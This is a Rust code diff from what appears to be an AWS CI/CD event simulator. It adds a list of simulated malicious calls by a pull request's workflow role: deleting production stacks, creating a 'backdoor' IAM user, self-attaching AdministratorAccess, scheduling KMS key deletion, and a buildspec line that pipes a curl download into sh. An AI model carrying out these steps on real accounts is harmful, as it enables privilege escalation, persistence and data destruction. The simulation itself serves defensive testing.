@@ -17,6 +17,8 @@ const LAMBDA: &str = "lambda.amazonaws.com";
 const CB: &str = "codebuild.amazonaws.com";
 pub const PROJECT: &str = "webapp-ci";
 pub const LAMBDA_ROLE: &str = "ci-test-lambda";
+/// The pull request whose workflow run makes the never-needed calls (a malicious PR).
+pub const ATTACK_PR: u32 = 200;
 
 #[derive(Default)]
 pub struct State {
@@ -354,8 +356,10 @@ fn delete_stack(d: &mut Day, r: &Role, st: &mut State, pr: u32) {
     );
 }
 
-pub fn day(d: &mut Day, st: &mut State) {
-    let caller = |d: &mut Day, pr: u32| Role {
+/// The session of the workflow run for pull request `pr` (one access key drawn from the
+/// day's stream).
+pub fn caller(d: &mut Day, pr: u32) -> Role {
+    Role {
         name: "ci-role",
         id: "AROACI5ROLE2GHA7Q4WXZ",
         session: format!("gha-{}", 8_100_000_000u64 + u64::from(pr) * 37),
@@ -363,7 +367,10 @@ pub fn day(d: &mut Day, st: &mut State) {
         ip: "4.197.93.18",
         ua: "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-azure exe/x86_64.ubuntu.22 prompt/off",
         created: d.midnight + 9 * 3600,
-    };
+    }
+}
+
+pub fn day(d: &mut Day, st: &mut State) {
     let first = 100 + 2 * d.n;
     for (k, pr) in [first, first + 1].into_iter().enumerate() {
         d.at(10 + 3 * k as u32, 0, 1800);
@@ -507,4 +514,161 @@ pub fn never() -> Never {
         ),
         ("launch an instance".into(), super::build::run_checks(SYD, "t2.micro", &[("app", "ci")], "web-app-profile")),
     ]
+}
+
+/// The never list as the events of successful calls by the workflow run of pull request
+/// [`ATTACK_PR`], in its order (see `attacks.rs`).
+pub fn attacks(d: &mut Day) -> super::attacks::List {
+    use super::attacks as a;
+    let pr = ATTACK_PR.to_string();
+    let prod_id = "0a6e4d10-5b2c-11ee-9b7a-06a1c2b3d4e5";
+    let stack = |name: &'static str, f: &dyn Fn(&mut crate::json::Json)| {
+        call(CFN, name, SYD).req(obj(|j| {
+            j.s("stackName", "prod-core");
+            f(j);
+        }))
+    };
+    let create = |name: &str, region: &'static str, role: Option<&str>| {
+        let arn = stack_arn(name, "7f3c9a40-dd52-11ee-8c11-0a1b2c3d4e5f", region);
+        call(CFN, "CreateStack", region)
+            .req(obj(|j| {
+                j.s("stackName", name).s("templateURL", &template(ATTACK_PR)).a("parameters", |j| {
+                    j.io(|j| {
+                        j.s("parameterKey", "Pr").s("parameterValue", &pr);
+                    });
+                });
+                if let Some(r) = role {
+                    j.s("roleARN", &role_arn(r));
+                }
+                j.a("tags", |j| {
+                    j.io(|j| {
+                        j.s("key", "pr").s("value", &pr);
+                    });
+                });
+            }))
+            .resp(obj(|j| {
+                j.s("stackId", &arn);
+            }))
+    };
+    let project = |name: &'static str, p: &str| {
+        call(CB, name, SYD).req(obj(|j| {
+            j.s("name", p);
+            if name == "UpdateProject" {
+                j.o("source", |j| {
+                    j.s("type", "GITHUB")
+                        .s("location", "https://github.com/acme/webapp.git")
+                        .s("buildspec", "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://198.51.100.66/x | sh\n");
+                });
+            }
+        }))
+    };
+    let mut out: super::attacks::List = Vec::new();
+    let mut add = |what: &str, c: Call| out.push((what.to_string(), c));
+    add("delete prod-core", stack("DeleteStack", &|_| {}));
+    add(
+        "update prod-core",
+        stack("UpdateStack", &|j| {
+            j.s("templateURL", &template(ATTACK_PR));
+        })
+        .resp(obj(|j| {
+            j.s("stackId", &stack_arn("prod-core", prod_id, SYD));
+        })),
+    );
+    add(
+        "execute a change set on prod-core",
+        stack("ExecuteChangeSet", &|j| {
+            j.s("changeSetName", "pr-200-abcdef0");
+        }),
+    );
+    add(
+        "set prod-core's stack policy",
+        stack("SetStackPolicy", &|j| {
+            j.s(
+                "stackPolicyBody",
+                r#"{"Statement":[{"Effect":"Allow","Action":"Update:*","Principal":"*","Resource":"*"}]}"#,
+            );
+        }),
+    );
+    add("create a stack not named test-pr-*", create("prod-hack", SYD, None));
+    add("create a PR stack in us-east-1", create("test-pr-200", USE1, None));
+    add("create a PR stack with the Admin service role", create("test-pr-200", SYD, Some("Admin")));
+    let q = format!("test-pr-{ATTACK_PR}-queue");
+    let url = format!("https://sqs.{SYD}.amazonaws.com/{ACCT}/{q}");
+    add(
+        "create a PR queue directly, not through CloudFormation",
+        call(SQS, "CreateQueue", SYD)
+            .req(obj(|j| {
+                j.s("queueName", &q);
+            }))
+            .resp(obj(|j| {
+                j.s("queueUrl", &url);
+            })),
+    );
+    add(
+        "delete the etl-jobs queue (through CloudFormation)",
+        via(call(SQS, "DeleteQueue", SYD)).req(obj(|j| {
+            j.s("queueUrl", &format!("https://sqs.{SYD}.amazonaws.com/{ACCT}/etl-jobs"));
+        })),
+    );
+    add(
+        "delete the etl-state table (through CloudFormation)",
+        via(call(DDB, "DeleteTable", SYD))
+            .req(obj(|j| {
+                j.s("tableName", "etl-state");
+            }))
+            .resp(obj(|j| {
+                j.o("tableDescription", |j| {
+                    j.s("tableName", "etl-state").s("tableStatus", "DELETING").s("tableArn", &table_arn("etl-state"));
+                });
+            })),
+    );
+    add(
+        "create a prod table (through CloudFormation)",
+        via(call(DDB, "CreateTable", SYD))
+            .req(obj(|j| {
+                j.s("tableName", "prod-orders").s("billingMode", "PAY_PER_REQUEST");
+            }))
+            .resp(obj(|j| {
+                j.o("tableDescription", |j| {
+                    j.s("tableName", "prod-orders")
+                        .s("tableStatus", "CREATING")
+                        .s("tableArn", &table_arn("prod-orders"));
+                });
+            })),
+    );
+    add(
+        "create a PR function with the Admin role (through CloudFormation)",
+        via(a::create_function(d, &format!("test-pr-{ATTACK_PR}-fn"), "Admin", &[], "python3.12")),
+    );
+    add("pass the test role to EC2", a::associate_profile(d, "i-0b4571a0c9d3e2f18", LAMBDA_ROLE));
+    add("delete etl-transform (through CloudFormation)", via(a::delete_function("etl-transform")));
+    let id = format!("prod-deploy:{}", d.rng.guid());
+    add(
+        "start the production deploy project",
+        call(CB, "StartBuild", SYD)
+            .req(obj(|j| {
+                j.s("projectName", "prod-deploy");
+            }))
+            .resp(obj(|j| {
+                j.o("build", |j| {
+                    j.s("id", &id)
+                        .s("arn", &format!("arn:aws:codebuild:{SYD}:{ACCT}:build/{id}"))
+                        .s("currentPhase", "QUEUED")
+                        .s("buildStatus", "IN_PROGRESS")
+                        .s("projectName", "prod-deploy");
+                });
+            })),
+    );
+    add("change the CI project", project("UpdateProject", PROJECT));
+    add("delete the CI project", project("DeleteProject", PROJECT));
+    add("create an IAM user", a::create_user(d, "backdoor"));
+    add("attach AdministratorAccess to itself", a::attach_admin("ci-role"));
+    add(
+        "overwrite a build artefact",
+        a::s3_object(d, "PutObject", "acme-artifacts", "builds/2.3.48/app-2.3.48.tar.gz", 43_517_220),
+    );
+    let key = format!("arn:aws:kms:{SYD}:{ACCT}:key/{}", super::pipeline::KEY_ID);
+    add("schedule deletion of the data key", a::schedule_key_deletion(d, &key));
+    add("launch an instance", a::launch(d, SYD, "t2.micro", &[("app", "ci")], "web-app-profile"));
+    out
 }
